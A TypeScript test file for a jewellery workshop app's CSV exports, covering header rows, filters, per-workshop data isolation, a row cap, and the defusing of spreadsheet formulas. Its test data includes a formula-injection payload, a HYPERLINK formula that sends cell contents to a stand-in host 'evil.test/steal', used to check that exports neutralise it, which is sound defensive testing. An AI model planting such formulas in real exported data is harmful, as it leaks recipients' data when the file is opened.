/**
 * The production CSV exports on a real database: the exact header, every column of a row, the
 * lists' filters and order, a workshop only ever getting its own jobs, formulas defused, and the cap.
 */
import { asc, eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { useTestDatabase } from '../../../../tests/support/database.ts';
import { error } from '../../../../tests/support/errors.ts';
import { createPurchaseOrderDraft, createStaff, createVendorUser, createWorkshop } from '../../../../tests/support/factories.ts';
import { timelineQuerySchema } from '#lib/domain/production/timeline-query.ts';
import type { StaffActor, VendorActor } from '../auth/actor.ts';
import { productionJob, purchaseOrder, purchaseOrderLine } from '../db/schema/index.ts';
import { asSystem } from '../db/scope.ts';
import { exportProductionTimelineCsv, exportWorkshopJobsCsv } from './exports.ts';
import type { WorkshopJobQuery } from './queries.ts';
import { getProductionTimeline } from './timeline.ts';

useTestDatabase();

// a Thursday: this week runs 30 Nov – 6 Dec
const TODAY = '2026-12-03';
const HYPERLINK = '=HYPERLINK("https://evil.test/steal?d="&A1,"Click for details")';

let ops: StaffActor;
let shopA: { vendorId: string; name: string };
let shopB: { vendorId: string; name: string };
let userA: VendorActor;
let userB: VendorActor;

type JobSeed = Partial<typeof productionJob.$inferInsert> & { key: string; line?: 1 | 2 };

/** A PO the workshop has acknowledged, with its two lines. */
async function acknowledgedPo(vendorId: string, collection: string) {
	const { poId, number } = await createPurchaseOrderDraft(ops, vendorId, { collection });
	const lines = await asSystem(async (tx) => {
		await tx
			.update(purchaseOrder)
			.set({ status: 'acknowledged', firstSentAt: new Date('2026-11-01T09:00:00Z'), sentAt: new Date('2026-11-01T09:00:00Z') })
			.where(eq(purchaseOrder.id, poId));
		return tx
			.select({ id: purchaseOrderLine.id })
			.from(purchaseOrderLine)
			.where(eq(purchaseOrderLine.purchaseOrderId, poId))
			.orderBy(asc(purchaseOrderLine.lineNo));
	});
	return { poId, number, lineIds: lines.map((l) => l.id), vendorId, collection };
}

async function insertJobs(po: Awaited<ReturnType<typeof acknowledgedPo>>, seeds: JobSeed[]) {
	await asSystem((tx) =>
		tx.insert(productionJob).values(
			seeds.map(({ key, line = 1, ...job }) => ({
				vendorId: po.vendorId,
				purchaseOrderId: po.poId,
				lineId: po.lineIds[line - 1],
				number: `JB-X-${key}`,
				quantity: 1,
				poNumber: po.number,
				collection: po.collection,
				sku: 'RG-1001',
				description: 'Solitaire ring',
				promisedDate: '2026-12-20',
				plannedStart: '2026-11-20',
				forecastFinish: '2026-12-20',
				currentStage: 'Casting',
				...job
			}))
		)
	);
}

/** The CSV as rows of cells, header first; the raw text too, to check what a spreadsheet would read. */
const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
/** The job numbers of the data rows, without the prefix. */
const keysOf = (csv: string) =>
	parse(csv)
		.slice(1)
		.map((r) => r[0].replace('JB-X-', ''));

const timelineCsv = (params: Record<string, string> = {}, actor: StaffActor | VendorActor = ops, cap?: number) =>
	exportProductionTimelineCsv(actor, timelineQuerySchema.parse(params), { today: TODAY, cap });
const jobsCsv = (actor: StaffActor | VendorActor, query: WorkshopJobQuery = {}, cap?: number) =>
	exportWorkshopJobsCsv(actor, query, { today: TODAY, cap });

let poA: Awaited<ReturnType<typeof acknowledgedPo>>;

beforeAll(async () => {
	ops = await createStaff('ops');
	shopA = await createWorkshop(ops, { name: 'Atelier Aurum' });
	shopB = await createWorkshop(ops, { name: 'Bangkok Bench' });
	userA = await createVendorUser(shopA.vendorId, shopA.name);
	userB = await createVendorUser(shopB.vendorId, shopB.name, 'vendor_member');
	poA = await acknowledgedPo(shopA.vendorId, 'Aurora');
	const poB = await acknowledgedPo(shopB.vendorId, 'Borealis');
	await insertJobs(poA, [
		{
			key: 'a1',
			pieceNo: 1,
			atRisk: true,
			riskReason: 'Casting started 2 days late; forecast 20 Dec, promised 15 Dec',
			forecastFinish: '2026-12-20',
			promisedDate: '2026-12-15',
			startedOn: '2026-11-21'
		},
		{
			key: 'a2',
			line: 2,
			quantity: 20,
			sku: 'ER-2002',
			description: 'Hoop earrings',
			forecastFinish: '2026-12-05',
			promisedDate: '2026-12-06',
			currentStage: 'Polishing',
			startedOn: '2026-11-22'
		},
		{ key: 'a3', atRisk: true, blocked: true, forecastFinish: '2026-12-10', promisedDate: '2026-12-08', currentStage: 'Stone setting' },
		{ key: 'a4', status: 'done', forecastFinish: '2026-11-30', currentStage: null, startedOn: '2026-11-02', finishedOn: '2026-11-30' },
		{ key: 'a5', description: HYPERLINK, sku: '+SUM(A1:A9)', riskReason: '@cmd', forecastFinish: '2026-12-18' }
	]);
	await insertJobs(poB, [
		{ key: 'b1', forecastFinish: '2026-12-12', promisedDate: '2026-12-14', sku: 'PD-777', description: 'Pendant with a baroque pearl' },
		{ key: 'b2', atRisk: true, forecastFinish: '2026-12-11', promisedDate: '2026-11-25', currentStage: 'Polishing' },
		{ key: 'b3', status: 'cancelled', atRisk: true, forecastFinish: '2026-12-01' }
	]);
});

describe('the timeline export', () => {
	it('starts with the exact header row', async () => {
		expect(parse(await timelineCsv())[0]).toEqual([
			'Job number',
			'Workshop',
			'PO number',
			'Line',
			'SKU',
			'Description',
			'Quantity',
			'Piece',
			'Current stage',
			'Status',
			'At risk',
			'Blocked',
			'Risk reason',
			'Promised date',
			'Forecast finish',
			'Started on',
			'Finished on',
			'Collection'
		]);
	});

	it('holds every open job of every workshop, in the timeline’s order, with every column filled', async () => {
		const csv = await timelineCsv();
		expect(keysOf(csv)).toEqual(['a3', 'b2', 'a1', 'a2', 'b1', 'a5']);
		const rows = parse(csv);
		expect(rows.find((r) => r[0] === 'JB-X-a1')).toEqual([
			'JB-X-a1',
			'Atelier Aurum',
			poA.number,
			'1',
			'RG-1001',
			'Solitaire ring',
			'1',
			'1',
			'Casting',
			'Open',
			'yes',
			'no',
			'Casting started 2 days late; forecast 20 Dec, promised 15 Dec',
			'2026-12-15',
			'2026-12-20',
			'2026-11-21',
			'',
			'Aurora'
		]);
		// a batch of line 2 has no piece number
		expect(rows.find((r) => r[0] === 'JB-X-a2')?.slice(3, 12)).toEqual([
			'2',
			'ER-2002',
			'Hoop earrings',
			'20',
			'',
			'Polishing',
			'Open',
			'no',
			'no'
		]);
		expect(rows.find((r) => r[0] === 'JB-X-a3')?.slice(10, 12)).toEqual(['yes', 'yes']);
		expect(rows.find((r) => r[0] === 'JB-X-b1')?.[1]).toBe('Bangkok Bench');
	});

	it('honours each of the timeline’s filters, and matches the timeline row for row', async () => {
		const cases: [Record<string, string>, string[]][] = [
			[{ vendor: shopA.vendorId }, ['a3', 'a1', 'a2', 'a5']],
			[{ workshop: 'bangkok' }, ['b2', 'b1']],
			[{ collection: 'Borealis' }, ['b2', 'b1']],
			[{ risk: '1' }, ['a3', 'b2', 'a1']],
			[{ blocked: '1' }, ['a3']],
			[{ stage: 'Polishing' }, ['b2', 'a2']],
			[{ stage: 'Polishing', risk: '1' }, ['b2']],
			[{ week: '2026-12-07' }, ['a3']],
			[{ week: 'overdue' }, ['b2']],
			[{ q: 'baroque' }, ['b1']],
			[{ q: 'jb-x-a2' }, ['a2']],
			[{ q: 'no such thing' }, []]
		];
		for (const [params, expected] of cases) {
			const csv = await timelineCsv(params);
			expect(keysOf(csv), JSON.stringify(params)).toEqual(expected);
			const screen = await getProductionTimeline(ops, timelineQuerySchema.parse(params), TODAY);
			expect(keysOf(csv)).toEqual(screen.rows.map((r) => r.number.replace('JB-X-', '')));
		}
	});

	it('ignores the page and grouping: every page is exported', async () => {
		expect(keysOf(await timelineCsv({ page: '3', group: 'vendor' }))).toEqual(['a3', 'b2', 'a1', 'a2', 'b1', 'a5']);
	});

	it('is not for workshop users', async () => {
		expect((await error(timelineCsv({}, userA))).code).toBe('NotFound');
	});
});

describe('the workshop’s export', () => {
	it('starts with the exact header row, without the workshop column', async () => {
		expect(parse(await jobsCsv(userA))[0]).toEqual([
			'Job number',
			'PO number',
			'Line',
			'SKU',
			'Description',
			'Quantity',
			'Piece',
			'Current stage',
			'Status',
			'At risk',
			'Blocked',
			'Risk reason',
			'Promised date',
			'Forecast finish',
			'Started on',
			'Finished on',
			'Collection'
		]);
	});

	it('holds only the workshop’s own jobs, whichever workshop asks', async () => {
		expect(keysOf(await jobsCsv(userA))).toEqual(['a3', 'a1', 'a2', 'a5']);
		expect(keysOf(await jobsCsv(userB))).toEqual(['b2', 'b1']);
		// searching for another workshop's job, or showing its finished and cancelled ones, finds nothing
		expect(keysOf(await jobsCsv(userB, { q: 'JB-X-a1' }))).toEqual([]);
		expect(keysOf(await jobsCsv(userB, { filter: 'done' }))).toEqual([]);
		expect(keysOf(await jobsCsv(userB, { filter: 'at_risk' }))).toEqual(['b2']);
	});

	it('honours the list’s filters', async () => {
		const done = parse(await jobsCsv(userA, { filter: 'done' }));
		expect(done.slice(1).map((r) => r[0])).toEqual(['JB-X-a4']);
		expect(done[1].slice(7, 16)).toEqual(['', 'Done', 'no', 'no', '', '2026-12-20', '2026-11-30', '2026-11-02', '2026-11-30']);
		expect(keysOf(await jobsCsv(userA, { filter: 'at_risk' }))).toEqual(['a3', 'a1']);
		expect(keysOf(await jobsCsv(userA, { filter: 'blocked' }))).toEqual(['a3']);
		expect(keysOf(await jobsCsv(userA, { stage: 'Polishing' }))).toEqual(['a2']);
		expect(keysOf(await jobsCsv(userA, { q: 'hoop' }))).toEqual(['a2']);
	});

	it('is not for staff', async () => {
		expect((await error(jobsCsv(ops))).code).toBe('NotFound');
	});
});

describe('both exports', () => {
	it('defuse cells a spreadsheet would run as a formula', async () => {
		for (const csv of [await timelineCsv({ q: 'evil.test' }), await jobsCsv(userA, { q: 'evil.test' })]) {
			const [header, row] = parse(csv);
			const cell = (name: string) => row[header.indexOf(name)];
			expect(cell('Description')).toBe(`'${HYPERLINK}`);
			expect(cell('SKU')).toBe("'+SUM(A1:A9)");
			expect(cell('Risk reason')).toBe("'@cmd");
			// no cell of the raw text starts a formula
			expect(csv).not.toMatch(/(^|,|\n)"?[=+@]/);
		}
	});

	it('stop at the cap with a last row that says the export was cut', async () => {
		const rows = parse(await timelineCsv({}, ops, 2));
		expect(rows).toHaveLength(4);
		expect(rows.slice(1, 3).map((r) => r[0])).toEqual(['JB-X-a3', 'JB-X-b2']);
		expect(rows[3][0]).toBe('Cut at 2 jobs: narrow the filters to export the rest.');
		expect(rows[3]).toHaveLength(18);
		const vendorRows = parse(await jobsCsv(userA, {}, 3));
		expect(vendorRows).toHaveLength(5);
		expect(vendorRows[4][0]).toMatch(/^Cut at 3 jobs/);
		// exactly at the cap: nothing was left out, so nothing is said
		expect(parse(await jobsCsv(userB, {}, 2)).map((r) => r[0])).toEqual(['Job number', 'JB-X-b2', 'JB-X-b1']);
	});
});
